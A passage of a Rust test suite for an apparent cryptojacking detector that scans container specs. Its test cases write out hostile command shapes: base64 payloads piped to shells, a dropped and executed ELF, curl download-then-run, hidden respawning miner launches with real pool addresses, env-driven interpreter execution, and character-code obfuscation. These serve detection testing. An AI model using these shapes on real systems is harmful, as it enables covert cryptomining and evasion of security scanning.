            &[
                "sh",
                "-c",
                "echo QlpoOTFBWSZTWQAAAAAAAA== | base64 -d | bunzip2 | sh",
            ],
            &[],
        ),
        Expect::Rule("builtin/obfuscation/uninspected".into()),
    ));
    // an ELF binary in base64 is reported
    let elf = b64_bytes(b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00binary body");
    cases.push(Case::one(
        "embedded ELF",
        container(
            "alpine",
            &[
                "sh",
                "-c",
                &format!("echo {elf} | base64 -d > /tmp/k; chmod +x /tmp/k; /tmp/k"),
            ],
            &[],
        ),
        Expect::Rule("builtin/obfuscation/embedded-binary".into()),
    ));
    // twins: small binary payloads (a certificate) and plain base64 data are not reported
    let der = b64_bytes(&(0..200u8).collect::<Vec<_>>());
    cases.push(Case::one(
        "certificate twin",
        container(
            "alpine",
            &[
                "sh",
                "-c",
                &format!("echo {der} | base64 -d > /etc/ssl/ca.der && update-ca-certificates"),
            ],
            &[],
        ),
        Expect::Benign,
    ));
    cases.push(Case::one(
        "base64 without a decoder twin",
        container(
            "alpine",
            &["sh", "-c", &format!("echo {} > /tmp/x", b64(miner))],
            &[],
        ),
        Expect::Benign,
    ));
    check(&cases);
}

#[test]
fn class3_no_silent_cut_off_for_long_scripts() {
    let noise = "echo ok; ".repeat(20_000); // 180 KB: under the bound, split into commands
    let f = run(container(
        "alpine",
        &["sh", "-c", &format!("{noise}./xmrig --help")],
        &[],
    ));
    assert!(rules(&f).contains(&"builtin/miner-binary/xmrig"), "{f:#?}");
    let noise = "echo ok; ".repeat(60_000); // 540 KB: over the bound
    let f = run(container(
        "alpine",
        &[
            "sh",
            "-c",
            &format!("{noise}./x -o pool.supportxmr.com:3333"),
        ],
        &[],
    ));
    let r = rules(&f);
    assert!(r.contains(&"builtin/obfuscation/uninspected"), "{r:?}");
    assert!(
        r.contains(&"builtin/pool/known-pool"),
        "the whole text is still scanned: {r:?}"
    );
    assert_eq!(max_severity(&f), Some(Severity::Critical));
    // the same size of benign script: only the size finding, medium
    let f = run(container(
        "alpine",
        &["sh", "-c", &format!("{noise}./server --port 8080")],
        &[],
    ));
    assert_eq!(rules(&f), ["builtin/obfuscation/uninspected"]);
    assert_eq!(max_severity(&f), Some(Severity::Medium));
    // a long env value is one word, scanned whole, no size finding
    let value = format!(
        "{}{}",
        "a".repeat(400_000),
        " stratum+tcp://mine.example.net:3333"
    );
    let f = run(with_env(
        container("alpine", &["/app"], &[]),
        &[("CFG", &value)],
    ));
    assert!(rules(&f).contains(&"builtin/pool/stratum-url"), "{f:#?}");
}

/// Class 1, the command somewhere else: a lifecycle hook (`postStart`, `preStop`) or an exec
/// probe (liveness, readiness, startup) runs in the container as surely as `command` does; a
/// miner started from one, or re-spawned by a probe, is the same miner. Twins: the usual
/// health checks and hooks, and benign programs in the same shapes.
#[test]
fn class1_lifecycle_hooks_and_exec_probes_are_commands() {
    use cryptojack::detect::{ContainerView, ExecView, Handler};
    fn shapes(argv: &[String]) -> Vec<(&'static str, Vec<String>)> {
        let line = argv.iter().map(|w| sq(w)).collect::<Vec<_>>().join(" ");
        vec![
            ("exec", argv.to_vec()),
            ("sh-c", strings(&["/bin/sh", "-c", &line])),
            (
                "background",
                strings(&["sh", "-c", &format!("nohup {line} >/dev/null 2>&1 &")]),
            ),
            (
                "respawn",
                strings(&[
                    "sh",
                    "-c",
                    &format!("pgrep -f kworker || ({line} &); exit 0"),
                ]),
            ),
            (
                "download-then-run",
                strings(&[
                    "bash",
                    "-c",
                    &format!("curl -fsSL http://10.9.8.7/x -o /tmp/x && chmod +x /tmp/x && {line}"),
                ]),
            ),
        ]
    }
    let with_exec = |c: ContainerView, handler: Handler, command: Vec<String>| {
        let mut c = c;
        c.execs = vec![ExecView { handler, command }];
        c
    };
    let base = || container("nginx:1.27-alpine", &["nginx", "-g", "daemon off;"], &[]);
    let mut cases = Vec::new();
    for handler in Handler::ALL {
        for (k, argv) in miner_argvs().iter().enumerate() {
            for (shape, command) in shapes(argv) {
                cases.push(Case::one(
                    format!("{handler:?} {shape} miner#{k}: {command:?}"),
                    with_exec(base(), handler, command),
                    Expect::Miner,
                ));
            }
        }
        for (k, argv) in benign_argvs().iter().enumerate() {
            for (shape, command) in shapes(argv) {
                cases.push(Case::one(
                    format!("{handler:?} {shape} benign#{k}: {command:?}"),
                    with_exec(base(), handler, command),
                    Expect::Benign,
                ));
            }
        }
        // the kubelet expands $(VAR) in handler commands from the container's env
        let env: &[(&str, &str)] = &[("POOL", "pool.supportxmr.com:443"), ("W", XMR)];
        cases.push(Case::one(
            format!("{handler:?} $(VAR) from env"),
            with_env(
                with_exec(
                    base(),
                    handler,
                    strings(&["/tmp/.cache", "-o", "$(POOL)", "-u", "$(W)", "--tls"]),
                ),
                env,
            ),
            Expect::Miner,
        ));
        // twins: the health checks and hooks real workloads carry
        for command in [
            &[
                "pg_isready",
                "-U",
                "postgres",
                "-h",
                "127.0.0.1",
                "-p",
                "5432",
            ][..],
            &["redis-cli", "ping"],
            &[
                "sh",
                "-c",
                "nginx -s quit; while killall -0 nginx; do sleep 1; done",
            ],
            &[
                "/bin/grpc_health_probe",
                "-addr=:8080",
                "-connect-timeout=5s",
            ],
            &["cat", "/tmp/healthy"],
            &[
                "sh",
                "-c",
                "curl -fsS http://127.0.0.1:3333/healthz || exit 1",
            ],
            &["/bin/sh", "-c", "kill -SIGTERM 1 && sleep 15"],
        ] {
            cases.push(Case::one(
                format!("{handler:?} health check {command:?}"),
                with_exec(base(), handler, strings(command)),
                Expect::Benign,
            ));
        }
    }
    let counts = check(&cases);
    assert_class_size(&counts, 125, 150);
}

/// Class 2 in interpreter code: the code reads the command, the pool or a base64 payload from
/// the container's env (`os.environ['X']`, `os.getenv`, `process.env.X`, `ENV['X']`,
/// `$ENV{X}`, `getenv('X')`, `Sys.getenv`, `ENVIRON["X"]`), or builds it in a variable across
/// statements (`h = 'pool.' + 'x.com'` ... `h + ':443'`), or from character codes
/// (`''.join(map(chr, [...]))`). Twins: the same code with benign env values.
#[test]
fn class2_interpreter_code_reads_the_env_and_its_own_variables() {
    fn programs(var: &str) -> Vec<(&'static str, Vec<String>)> {
        let c = |i: &str, o: &str, code: String| vec![i.to_string(), o.to_string(), code];
        vec![
            (
                "py-environ",
                c(
                    "python3",
                    "-c",
                    format!("import os; os.system(os.environ['{var}'])"),
                ),
            ),
            (
                "py-environ-get",
                c(
                    "python3",
                    "-c",
                    format!("import os\nos.system(os.environ.get('{var}', ''))"),
                ),
            ),
            (
                "py-getenv",
                c(
                    "python3",
                    "-c",
                    format!(
                        "import os,subprocess; subprocess.call(os.getenv('{var}'), shell=True)"
                    ),
                ),
            ),
            (
                "py-var",
                c(
                    "python3",
                    "-c",
                    format!("import os\ncmd = os.environ['{var}']\nos.system(cmd)"),
                ),
            ),
            (
                "node-env",
                c(
                    "node",
                    "-e",
                    format!("require('child_process').execSync(process.env.{var})"),
                ),
            ),
            (
                "node-env-index",
                c(
                    "node",
                    "-e",
                    format!("const cp = require('child_process'); cp.exec(process.env['{var}'])"),
                ),
            ),
            ("ruby-env", c("ruby", "-e", format!("system(ENV['{var}'])"))),
            (
                "ruby-fetch",
                c("ruby", "-e", format!("exec(ENV.fetch('{var}'))")),
            ),
            (
                "perl-env",
                c("perl", "-e", format!("system($ENV{{{var}}})")),
            ),
            (
                "perl-env-quoted",
                c(
                    "perl",
                    "-e",
                    format!("my $c = $ENV{{'{var}'}}; system($c);"),
                ),
            ),
            (
                "php-getenv",
                c("php", "-r", format!("system(getenv('{var}'));")),
            ),
            (
                "php-env",
                c("php", "-r", format!("shell_exec($_ENV['{var}']);")),
            ),
            (
                "lua-getenv",
                c("lua", "-e", format!("os.execute(os.getenv('{var}'))")),
            ),
            (
                "r-getenv",
                c("Rscript", "-e", format!("system(Sys.getenv('{var}'))")),
            ),
            (
                "awk-environ",
                c(
                    "awk",
                    &format!("BEGIN {{ system(ENVIRON[\"{var}\"]) }}"),
                    String::new(),
                ),
            ),
        ]
    }
    let miner_line = format!("/tmp/.x -o pool.supportxmr.com:443 -u {XMR} --tls");
    let benign_line = "/usr/bin/rsync -a /data/ backup.internal::nightly".to_string();
    let mut cases = Vec::new();
    for (value_kind, miner, benign) in [
        ("line", miner_line.clone(), benign_line.clone()),
        ("b64", b64(&miner_line), b64(&benign_line)),
    ] {
        for (name, mut argv) in programs("CFG") {
            argv.retain(|a| !a.is_empty());
            // base64 payloads are decoded by the code itself
            if value_kind == "b64" {
                let last = argv.len() - 1;
                argv[last] = match name {
                    n if n.starts_with("py") => argv[last]
                        .replace("import os", "import os, base64")
                        .replace(
                            "os.environ['CFG']",
                            "base64.b64decode(os.environ['CFG']).decode()",
                        )
                        .replace(
                            "os.environ.get('CFG', '')",
                            "base64.b64decode(os.environ.get('CFG', '')).decode()",
                        )
                        .replace(
                            "os.getenv('CFG')",
                            "base64.b64decode(os.getenv('CFG')).decode()",
                        ),
                    n if n.starts_with("node") => argv[last]
                        .replace(
                            "process.env.CFG",
                            "Buffer.from(process.env.CFG, 'base64').toString()",
                        )
                        .replace(
                            "process.env['CFG']",
                            "Buffer.from(process.env['CFG'], 'base64').toString()",
                        ),
                    n if n.starts_with("php") => argv[last]
                        .replace("getenv('CFG')", "base64_decode(getenv('CFG'))")
                        .replace("$_ENV['CFG']", "base64_decode($_ENV['CFG'])"),
                    _ => continue,
                };
            }
            let refs: Vec<&str> = argv.iter().map(String::as_str).collect();
            cases.push(Case::one(
                format!("{value_kind} {name} miner: {refs:?}"),
                with_env(
                    container("python:3.12-slim", &refs, &[]),
                    &[("CFG", &miner)],
                ),
                Expect::Miner,
            ));
            cases.push(Case::one(
                format!("{value_kind} {name} benign: {refs:?}"),
                with_env(
                    container("python:3.12-slim", &refs, &[]),
                    &[("CFG", &benign)],
                ),
                Expect::Benign,
            ));
        }
    }
    // string building across statements, and from character codes
    let codes: Vec<(&str, String)> = vec![
        (
            "py-vars",
            "import subprocess as s\nh = 'pool.' + 'support' + 'xmr.com'\nb = '/tmp/' + '.x'\ns.Popen([b, '-o', h + ':443', '--tls'])".to_string(),
        ),
        (
            "js-vars",
            "const h = 'pool.' + 'supportxmr' + '.com'; const cp = require('child_process'); cp.spawn('/tmp/.x', ['-o', h + ':443'])".to_string(),
        ),
        (
            "perl-vars",
            "my $h = 'pool.' . 'supportxmr.com'; my $p = ':443'; system('/tmp/.x', '-o', $h . $p);".to_string(),
        ),
        (
            "py-chr-join",
            format!(
                "import os; os.system(''.join(map(chr, [{}])))",
                miner_line.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(", ")
            ),
        ),
        (
            "py-join-list",
            "import os; os.system(' '.join(['/tmp/.x', '-o', 'pool.supportxmr.com:443', '--donate-level', '1']))".to_string(),
        ),
    ];
    for (name, code) in &codes {
        let interp = if name.starts_with("js") {
            ("node", "-e")
        } else if name.starts_with("perl") {
            ("perl", "-e")
        } else {
            ("python3", "-c")
        };
        cases.push(Case::one(
            format!("{name} miner"),
            container("python:3.12-slim", &[interp.0, interp.1, code], &[]),
            Expect::Miner,
        ));
        let twin = code
            .replace("supportxmr", "example")
            .replace("xmr.com", "example.com")
            .replace("'pool.'", "'api.'")
            .replace("--donate-level", "--level")
            .replace(
                &miner_line
                    .bytes()
                    .map(|b| b.to_string())
                    .collect::<Vec<_>>()
                    .join(", "),
                &benign_line
                    .bytes()
                    .map(|b| b.to_string())
                    .collect::<Vec<_>>()
                    .join(", "),
            );
        cases.push(Case::one(
            format!("{name} twin: {twin}"),
            container("python:3.12-slim", &[interp.0, interp.1, &twin], &[]),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 28, 28);
}

/// Class 3, what cannot be read and is run anyway: a payload compressed with a compressor
/// cryptojack does not undo (bzip2, xz, zstd) or encrypted (`openssl enc -d`, `gpg -d`) and
/// piped to a shell or interpreter is high on its own (hiding what a shell runs is the
/// evasion); the same payload unpacked to a file or listed is medium at most.
#[test]
fn class3_uninspectable_payloads_run_by_a_shell() {
    use base64::Engine as _;
    let b64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    // pseudo-random bytes behind each format's magic
    let body: Vec<u8> = (0u32..400)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
        .collect();
    let with_magic = |magic: &[u8]| {
        let mut v = magic.to_vec();
        v.extend_from_slice(&body);
        v
    };
    let payloads: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "xz",
            with_magic(&[0xfd, b'7', b'z', b'X', b'Z', 0x00]),
            "xz -d",
        ),
        (
            "xz-unxz",
            with_magic(&[0xfd, b'7', b'z', b'X', b'Z', 0x00]),
            "unxz",
        ),
        ("bzip2", with_magic(b"BZh91AY&SY"), "bzip2 -dc"),
        ("bunzip2", with_magic(b"BZh91AY&SY"), "bunzip2"),
        ("zstd", with_magic(&[0x28, 0xb5, 0x2f, 0xfd]), "zstd -d"),
        (
            "openssl",
            body.clone(),
            "openssl enc -d -aes-256-cbc -pbkdf2 -k s3cret",
        ),
        ("gpg", body.clone(), "gpg --batch --passphrase x -d"),
    ];
    let runners = ["sh", "bash -s", "/bin/sh -", "python3 -", "perl"];
    let mut cases = Vec::new();
    for (name, bytes, filter) in &payloads {
        let blob = b64(bytes);
        for runner in runners {
            let mut scripts = vec![
                format!("echo {blob} | base64 -d | {filter} | {runner}"),
                format!("printf '%s' '{blob}' | base64 --decode | {filter} | {runner}"),
            ];
            // a compressed payload is recognised by its magic bytes wherever it is decoded;
            // a cipher's output only where the pipeline shows it runs (not through a
            // here-string of a command substitution: not covered)
            if !matches!(*name, "openssl" | "gpg") {
                scripts.push(format!(
                    "{filter} <<< \"$(echo {blob} | base64 -d)\" | {runner}"
                ));
            }
            for script in scripts {
                cases.push(
                    Case::one(
                        format!("{name} -> {runner}: {script:.60}"),
                        container("alpine:3.20", &["sh", "-c", &script], &[]),
                        Expect::Rule("builtin/obfuscation/uninspected".into()),
                    )
                    .also(Expect::Exactly(Severity::High)),
                );
            }
        }
        // twins: the same payload unpacked to a file, never run
        for script in [
            format!("echo {blob} | base64 -d | {filter} > /data/restore.tar"),
            format!("echo {blob} | base64 -d > /tmp/blob.bin && ls -l /tmp/blob.bin"),
        ] {
            cases.push(Case::one(
                format!("{name} twin: {script:.60}"),
                container("alpine:3.20", &["sh", "-c", &script], &[]),
                Expect::AtMost(Severity::Medium),
            ));
        }
    }
    let counts = check(&cases);
    assert_class_size(&counts, 60, 0);
}
